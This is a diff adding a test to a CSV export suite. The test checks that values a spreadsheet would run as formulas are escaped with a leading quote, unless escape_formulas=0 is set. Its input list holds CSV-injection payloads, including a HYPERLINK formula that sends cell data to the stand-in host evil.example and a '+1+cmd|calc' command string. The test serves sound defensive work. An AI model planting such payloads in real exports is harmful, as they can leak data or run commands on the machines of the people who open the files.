@@ -77,6 +77,29 @@ describe.each(DIALECTS)('CSV export on %s', (dialect) => {
     expect(listed.body.rows.map((row: any) => row.company.Name.value)).toEqual(['Globex', 'Acme, Inc.', 'Initech']);
   });
 
+  test('text a spreadsheet would run as a formula opens as text; numbers stay numbers; escape_formulas=0 keeps it as is', async () => {
+    const made = await t.api('POST', '/projects', {
+      body: { builder_id: 'manual_list_builder', form_data: { companies: 'placeholder' } },
+    });
+    const id = made.body.project_id;
+    await t.api('GET', `/projects/${id}/wait?wait_seconds=20`);
+    const columns = (await t.api('GET', `/projects/${id}/columns`)).body.map((c: any) => c.name);
+    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+cmd|calc', '@SUM(A1)', '-2+3', '-12.5', '+33 4 72 00 00 00'];
+    await t.api('POST', `/projects/${id}/rows/batch`, {
+      body: { rows: hostile.map((v) => Object.fromEntries(columns.map((c: string, i: number) => [c, i === 0 ? v : null]))) },
+    });
+    const get = async (q = '') =>
+      (
+        parse(await (await fetch(`${t.url}/projects/${id}/export.csv${q}`, { headers: { 'service-api-key': t.key } })).text(), {
+          columns: true,
+        }) as any[]
+      )
+        .map((r) => r[columns[0]])
+        .slice(1);
+    expect(await get()).toEqual([`'${hostile[0]}`, `'${hostile[1]}`, `'${hostile[2]}`, `'${hostile[3]}`, '-12.5', `'${hostile[5]}`]);
+    expect(await get('?escape_formulas=0')).toEqual(hostile);
+  });
+
   test('bad input is a JSON error and no file: malformed or unknown filter (422), no key (401), another workspace (404)', async () => {
     const malformed = await download('?filter_groups=%5Bnot-json');
     expect(malformed.status).toBe(422);
